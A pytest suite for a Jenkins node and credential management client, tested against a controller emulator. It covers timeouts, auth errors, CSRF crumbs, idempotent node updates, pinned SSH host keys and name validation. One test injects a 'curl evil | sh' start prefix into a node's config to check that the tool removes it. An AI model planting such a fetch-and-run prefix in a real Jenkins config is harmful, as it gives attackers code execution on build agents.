"""jenkinsctl.jenkins_api against the in-process controller emulator.

Each test is a behaviour a user would see: a hung or refused controller
fails within its timeout, a stale crumb is refreshed once, a bad password is
one clear error, an unchanged node costs no POST, a lost creation race is
not an error, names are encoded or refused before anything is created.
"""

from __future__ import annotations

import dataclasses
import socket
import time

import pytest
import requests

from jenkinsctl.errors import ConfigError, JenkinsAuthError, JenkinsError, JenkinsNotFound, Timeout
from jenkinsctl.jenkins_api import MANUAL_KEY_STRATEGY, HostKey, JenkinsAPI, NodeSpec, node_fields, wait_all_online
from jenkinsctl.names import validate_node_name
from tests.fakejenkins import FakeJenkins, SilentServer, User, sshkeys
from tests.support.clock import FakeClock

PASSWORD = "pw-Secr3t-value"


@pytest.fixture
def emu():
    with FakeJenkins([User("admin", PASSWORD), User("reader", "r", role="read")], time_scale=0.01) as e:
        yield e


@pytest.fixture
def api(emu):
    return JenkinsAPI(emu.url, "admin", PASSWORD, timeout=5, ready_timeout=5)


@pytest.fixture(scope="module")
def keys():
    return {"client": sshkeys.generate(), "host": sshkeys.generate()}


def spec(keys, name="agent-1", **kw) -> NodeSpec:
    base = dict(name=name, host="127.0.0.1", port=1, credentials_id="cred", remote_fs="/home/jenkins/agent",
                host_key=HostKey.parse(keys["host"].public_line), labels=("docker", "linux"), executors=2,
                description="managed by jenkinsctl", max_retries=0, retry_wait=0)
    base.update(kw)
    return NodeSpec(**base)


def settle(emu, seconds: float = 0.3) -> None:
    """The emulator appends to its request log after it has sent the answer,
    so the client can be faster than the log: give the log a moment."""
    time.sleep(seconds)


def clear(emu) -> None:
    settle(emu)
    emu.clear_requests()


def posts(emu):
    settle(emu)
    return [(r["method"], r["path"]) for r in emu.posts()]


def post_statuses(emu, path_end: str = "") -> list[int]:
    settle(emu)
    return [r["status"] for r in emu.requests if r["method"] == "POST" and r["path"].endswith(path_end)]


# --- timeouts and reachability ------------------------------------------------


def test_controller_that_never_answers_times_out_within_the_call_timeout():
    with SilentServer() as silent:
        api = JenkinsAPI(silent.url, "admin", PASSWORD, timeout=1, ready_timeout=30)
        start = time.monotonic()
        with pytest.raises(Timeout) as err:
            api.wait_ready()
        assert time.monotonic() - start < 4
        assert "did not answer" in err.value.message and PASSWORD not in str(err.value.to_dict())


def test_refused_connection_fails_at_once_for_an_external_controller():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    api = JenkinsAPI(f"http://127.0.0.1:{port}", "admin", PASSWORD, timeout=2, ready_timeout=30)
    start = time.monotonic()
    with pytest.raises(JenkinsError) as err:
        api.wait_ready()
    assert time.monotonic() - start < 3
    assert "connection refused" in err.value.message


def test_starting_controller_503_is_waited_out():
    with FakeJenkins([User("admin", PASSWORD)], startup_seconds=1.5) as emu:
        api = JenkinsAPI(emu.url, "admin", PASSWORD, timeout=2, ready_timeout=10)
        start = time.monotonic()
        assert api.wait_ready() == emu.version
        assert 1.2 < time.monotonic() - start < 6
        assert any(r["status"] == 503 for r in emu.requests)


def test_starting_controller_that_stays_503_times_out_with_the_reason():
    with FakeJenkins([User("admin", PASSWORD)], startup_seconds=60) as emu:
        api = JenkinsAPI(emu.url, "admin", PASSWORD, timeout=2, ready_timeout=1)
        with pytest.raises(Timeout) as err:
            api.wait_ready()
        assert "503" in err.value.message


# --- auth -------------------------------------------------------------------------------


def test_bad_password_is_one_401_with_no_retry_and_no_secret(emu):
    bad = "wrong-" + PASSWORD
    api = JenkinsAPI(emu.url, "admin", bad, timeout=5, ready_timeout=30)
    start = time.monotonic()
    with pytest.raises(JenkinsAuthError) as err:
        api.wait_ready()
    assert time.monotonic() - start < 2
    settle(emu)
    assert sum(1 for r in emu.requests if r["status"] == 401) == 1
    text = str(err.value.to_dict()) + str(err.value.hint)
    assert bad not in text and "401" in err.value.message


def test_missing_permission_is_an_auth_error(emu, keys):
    api = JenkinsAPI(emu.url, "reader", "r", timeout=5)
    with pytest.raises(JenkinsAuthError) as err:
        api.ensure_node(spec(keys))
    assert "missing" in err.value.message or "permission" in err.value.message
    assert emu.computers == {}


# --- crumbs ------------------------------------------------------------------------------


def _foreign_crumb(emu) -> dict:
    other = requests.Session()
    return other.get(emu.url + "crumbIssuer/api/json", auth=("admin", PASSWORD), timeout=5).json()


def test_crumb_from_another_session_is_refetched_once(emu, api, keys):
    api.wait_ready()
    api.server.crumb = _foreign_crumb(emu)
    assert api.ensure_credential("cred", "jenkins", keys["client"].private_openssh) == "created"
    assert post_statuses(emu) == [403, 200]


def test_second_crumb_rejection_is_reported_without_a_loop(emu, api, keys, monkeypatch):
    api.wait_ready()
    foreign = _foreign_crumb(emu)
    api.server.crumb = foreign

    def stale_crumb(req):  # the "new" crumb is stale again
        api.server.crumb = foreign
        req.headers[foreign["crumbRequestField"]] = foreign["crumb"]

    monkeypatch.setattr(api.server, "maybe_add_crumb", stale_crumb)
    with pytest.raises(JenkinsError) as err:
        api.ensure_credential("cred", "jenkins", keys["client"].private_openssh)
    assert "crumb" in err.value.message
    assert post_statuses(emu) == [403, 403]


def test_crumb_issuer_404_means_no_crumb():
    with FakeJenkins([User("admin", PASSWORD)], crumbs=False) as emu:
        api = JenkinsAPI(emu.url, "admin", PASSWORD, timeout=5)
        api.wait_ready()
        assert api.server.crumb is False
        assert api.ensure_credential("cred", "jenkins", sshkeys.generate().private_openssh) == "created"


# --- nodes ---------------------------------------------------------------------------------


def test_create_then_unchanged_costs_no_post(emu, api, keys):
    s = spec(keys)
    assert api.ensure_node(s) == "created"
    clear(emu)
    assert api.ensure_node(s) == "unchanged"
    assert posts(emu) == []
    assert [r["method"] for r in emu.requests] == ["GET"]  # config.xml, once


def test_node_is_pinned_with_the_manually_provided_key(emu, api, keys):
    api.ensure_node(spec(keys))
    fields = node_fields(api.node_config("agent-1"))
    assert fields["strategy"] == MANUAL_KEY_STRATEGY
    assert fields["key"] == keys["host"].b64 and fields["keyAlgorithm"] == "ssh-ed25519"


def test_changed_node_is_reconfigured_through_config_xml(emu, api, keys):
    api.ensure_node(spec(keys))
    clear(emu)
    other = sshkeys.generate()
    changed = spec(keys, executors=4, labels=("docker",), host_key=HostKey.parse(other.public_line))
    assert api.ensure_node(changed) == "updated"
    # A changed pinned key: the controller keeps the old connection, so the
    # node is disconnected and launched again.
    assert [p[1].split("?")[0] for p in posts(emu)] == [
        "/computer/agent-1/config.xml", "/computer/agent-1/doDisconnect", "/computer/agent-1/launchSlaveAgent"]
    fields = node_fields(api.node_config("agent-1"))
    assert (fields["numExecutors"], fields["labels"], fields["key"]) == ("4", ("docker",), other.b64)


def test_changed_executors_only_keep_the_connection(emu, api, keys):
    api.ensure_node(spec(keys))
    clear(emu)
    assert api.ensure_node(spec(keys, executors=3)) == "updated"
    assert posts(emu) == [("POST", "/computer/agent-1/config.xml")]


def test_a_start_prefix_someone_added_is_reset(emu, api, keys):
    api.ensure_node(spec(keys))
    xml = api.node_config("agent-1").replace("<launchTimeoutSeconds>",
                                             "<prefixStartSlaveCmd>curl evil | sh; </prefixStartSlaveCmd>"
                                             "<launchTimeoutSeconds>")
    api.server.reconfig_node("agent-1", xml)
    assert "evil" in api.node_config("agent-1")
    assert api.ensure_node(spec(keys)) == "updated"
    assert "evil" not in api.node_config("agent-1")


def test_a_controller_that_drops_the_pinned_key_fails_creation(emu, api, keys, monkeypatch):
    from tests.fakejenkins import model as emu_model

    real = emu_model._bind_strategy
    monkeypatch.setattr(emu_model, "_bind_strategy", lambda obj: emu_model.HostKeyStrategy(emu_model.NON_VERIFYING))
    with pytest.raises(JenkinsError) as err:
        api.ensure_node(spec(keys))
    assert "without the pinned host key" in err.value.message
    assert api.node_config("agent-1") is None  # deleted again
    monkeypatch.setattr(emu_model, "_bind_strategy", real)


def test_lost_creation_race_compares_and_carries_on(emu, api, keys, monkeypatch):
    s = spec(keys)
    rival = JenkinsAPI(emu.url, "admin", PASSWORD, timeout=5)
    real_plan = api.plan_node
    calls = []

    def racing_plan(sp):
        calls.append(sp.name)
        if len(calls) == 1:  # we looked: missing; meanwhile the rival creates it
            result = real_plan(sp)
            rival.ensure_node(sp)
            return result
        return real_plan(sp)

    monkeypatch.setattr(api, "plan_node", racing_plan)
    monkeypatch.setattr(api.server, "node_exists", lambda name: False)  # python-jenkins' own pre-check
    assert api.ensure_node(s) == "unchanged"
    # The rival's create answered 302.  Ours got 400 "already exists" (the
    # emulator cannot send the X-Error header with its curly quotes and drops
    # the connection instead; ensure_node handles both the same way).
    assert post_statuses(emu, "/computer/doCreateItem")[:1] == [302]
    assert list(emu.computers) == ["agent-1"]


def test_launcher_params_are_fresh_each_call(keys):
    s = spec(keys)
    a, b = s.launcher_params(), s.launcher_params()
    a["stapler-class"] = "x"
    assert "stapler-class" not in b and a is not b
    assert b["sshHostKeyVerificationStrategy"]["$class"] == MANUAL_KEY_STRATEGY


@pytest.mark.parametrize("name", ["with space", "plus+sign", "ünïcødé-节点", "x" * 100])
def test_unusual_names_are_encoded(emu, api, keys, name):
    assert api.ensure_node(spec(keys, name=name)) == "created"
    assert name in emu.computers
    assert api.get_node(name).name == name
    assert api.ensure_node(spec(keys, name=name)) == "unchanged"
    assert api.delete_node(name) is True and name not in emu.computers


@pytest.mark.parametrize("name", ["../etc", "a/b", "..", "x" * 101, " lead", "semi;colon", "tab\tname", ""])
def test_bad_names_are_refused_before_any_request(emu, api, keys, name):
    with pytest.raises(ConfigError):
        api.ensure_node(spec(keys, name=name))
    settle(emu)
    assert emu.requests == [] and emu.computers == {}
    with pytest.raises(ConfigError):
        validate_node_name(name)


def test_wait_online_timeout_carries_the_offline_reason(emu, api, keys):
    api.ensure_credential("cred", "jenkins", keys["client"].private_openssh)
    api.ensure_node(spec(keys))
    emu.wait_for_launch("agent-1")
    with pytest.raises(Timeout) as err:
        api.wait_online("agent-1", 0.5)
    assert "Cannot connect" in err.value.details["offline_reason"]
    assert "Cannot connect" in err.value.message


def test_enable_and_disable_decide_from_temporarily_offline(emu, api, keys):
    # The node cannot connect: offline, but not temporarily offline.
    api.ensure_node(spec(keys))
    emu.wait_for_launch("agent-1")
    node = api.get_node("agent-1")
    assert not node.online and not node.temporarily_offline
    # python-jenkins' disable_node would do nothing here (it reads 'offline').
    assert api.disable_node("agent-1", "maintenance") is True
    assert api.get_node("agent-1").temporarily_offline
    assert api.disable_node("agent-1") is False
    assert api.enable_node("agent-1") is True
    assert not api.get_node("agent-1").temporarily_offline
    assert api.enable_node("agent-1") is False


def test_delete_missing_node_is_false(api):
    assert api.delete_node("nope") is False
    assert api.get_node("nope") is None


# --- 404: translated once in the client, and nothing else taken for it -------------------------


def test_each_missing_object_is_none_or_false_from_the_controllers_own_404(emu, api):
    api.wait_ready()
    clear(emu)
    assert api.get_node("nope") is None
    assert api.node_config("nope") is None
    assert api.credential_config("nope") is None
    assert api.delete_node("nope") is False
    assert api.delete_credential("nope") is False
    assert api.node_log("nope") == []
    settle(emu)
    # Every answer came from a 404 on the wire, not from a shortcut.
    assert [r["status"] for r in emu.requests if "nope" in r["path"]] == [404] * 6


def test_a_404_is_a_jenkins_not_found_that_names_the_request(api):
    with pytest.raises(JenkinsNotFound) as err:
        api._get_json("computer/nope/api/json")
    assert isinstance(err.value, JenkinsError) and err.value.exit_code == 7
    assert err.value.category == "jenkins-not-found"
    assert err.value.details["status"] == 404
    assert "GET /computer/nope/api/json" in err.value.message and "404" in err.value.message
    assert PASSWORD not in str(err.value.to_dict())


def test_python_jenkins_own_methods_still_read_the_404_as_missing(api):
    # create_node asks node_exists first, and maybe_add_crumb reads a 404
    # from the crumb issuer as "CSRF protection is off": both catch
    # python-jenkins' NotFoundException, which the translated error still is.
    import jenkins

    assert api.server.node_exists("nope") is False
    with pytest.raises(jenkins.NotFoundException):
        api.server.get_node_config("nope")


def test_relaunch_of_a_missing_node_is_not_found(api):
    with pytest.raises(JenkinsNotFound):
        api.relaunch("nope")


def test_a_controller_answering_503_is_not_taken_for_a_missing_object(emu, api, keys):
    api.ensure_credential("cred", "jenkins", keys["client"].private_openssh)
    api.ensure_node(spec(keys))
    emu.restart(60)
    calls = {"get_node": lambda: api.get_node("agent-1"), "node_config": lambda: api.node_config("agent-1"),
             "credential_config": lambda: api.credential_config("cred"),
             "delete_node": lambda: api.delete_node("agent-1"),
             "delete_credential": lambda: api.delete_credential("cred")}
    for what, call in calls.items():
        with pytest.raises(JenkinsError) as err:
            call()
        assert not isinstance(err.value, JenkinsNotFound), what
        assert err.value.details["status"] == 503, what
    assert "agent-1" in emu.computers and "cred" in emu.credentials


def test_401_and_403_are_auth_errors_not_missing_objects(emu, api, keys):
    wrong = JenkinsAPI(emu.url, "admin", "not-the-password", timeout=5)
    for lookup in (wrong.get_node, wrong.node_config, wrong.credential_config, wrong.delete_credential,
                   wrong.delete_node):
        with pytest.raises(JenkinsAuthError) as err:
            lookup("nope")
        assert err.value.details["status"] == 401, lookup
    api.ensure_node(spec(keys))
    reader = JenkinsAPI(emu.url, "reader", "r", timeout=5)
    with pytest.raises(JenkinsAuthError) as err:
        reader.delete_node("agent-1")  # a 403, not "it was not there"
    assert err.value.details["status"] == 403
    assert "agent-1" in emu.computers


# --- waits run on the injected clock -----------------------------------------------------------


def _free_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def test_wait_ready_for_a_starting_controller_sleeps_on_the_injected_clock():
    clock = FakeClock(1000.0)
    api = JenkinsAPI(f"http://127.0.0.1:{_free_port()}", "admin", PASSWORD, timeout=2, ready_timeout=3,
                     clock=clock, sleep=clock.sleep)
    start = time.monotonic()
    with pytest.raises(Timeout) as err:
        api.wait_ready(starting=True)
    assert time.monotonic() - start < 2
    assert clock.naps == pytest.approx([1.0, 1.0, 1.0])
    assert "not ready within 3s" in err.value.message and "connection refused" in err.value.message


def test_wait_online_of_a_missing_node_sleeps_on_the_injected_clock(emu):
    clock = FakeClock(1000.0)
    api = JenkinsAPI(emu.url, "admin", PASSWORD, timeout=5, clock=clock, sleep=clock.sleep)
    with pytest.raises(Timeout) as err:
        api.wait_online("nope", 2.0, poll=0.5)
    assert clock.naps == pytest.approx([0.5] * 4)
    assert "within 2s" in err.value.message and "does not exist" in err.value.message


def test_wait_all_online_shares_one_deadline_on_the_injected_clock(emu, keys):
    clock = FakeClock(1000.0)
    api = JenkinsAPI(emu.url, "admin", PASSWORD, timeout=5, clock=clock, sleep=clock.sleep)
    api.ensure_node(spec(keys))
    emu.wait_for_launch("agent-1")
    emu.set_connected("agent-1")
    out = wait_all_online(api, ["agent-1", "nope"], 1.0, poll=0.25)
    assert out["agent-1"].online
    assert isinstance(out["nope"], Timeout) and "within 1s" in out["nope"].message
    assert clock.naps == pytest.approx([0.25] * 4)
    clear(emu)
    assert wait_all_online(api, [], 1.0) == {}
    assert emu.requests == [] and clock.naps == pytest.approx([0.25] * 4)


# --- credentials -----------------------------------------------------------------------------


def test_credential_create_unchanged_update(emu, api, keys):
    pk = keys["client"].private_openssh
    assert api.ensure_credential("cred", "jenkins", pk) == "created"
    clear(emu)
    assert api.ensure_credential("cred", "jenkins", pk) == "unchanged"
    assert posts(emu) == []
    new = sshkeys.generate().private_openssh
    assert api.ensure_credential("cred", "jenkins", new) == "updated"
    assert emu.credentials["cred"].private_key.strip() == new.strip()
    assert api.delete_credential("cred") is True and api.delete_credential("cred") is False


def test_credential_created_concurrently_409_is_compared(emu, api, keys, monkeypatch):
    pk = keys["client"].private_openssh
    rival = JenkinsAPI(emu.url, "admin", PASSWORD, timeout=5)
    real = api.plan_credential
    calls = []

    def racing(cid, user, key):
        calls.append(cid)
        result = real(cid, user, key)
        if len(calls) == 1:
            rival.ensure_credential(cid, user, key)
        return result

    monkeypatch.setattr(api, "plan_credential", racing)
    assert api.ensure_credential("cred", "jenkins", pk) == "unchanged"
    assert post_statuses(emu, "createCredentials") == [200, 409]


def test_private_key_never_in_errors(emu, keys):
    api = JenkinsAPI(emu.url, "reader", "r", timeout=5)
    pk = keys["client"].private_openssh
    with pytest.raises(JenkinsAuthError) as err:
        api.ensure_credential("cred", "jenkins", pk)
    body = pk.strip().splitlines()[1]
    assert body not in str(err.value.to_dict())


def test_spec_copy_is_independent(keys):
    s = spec(keys)
    assert dataclasses.replace(s, executors=9).comparable()["numExecutors"] == "9"
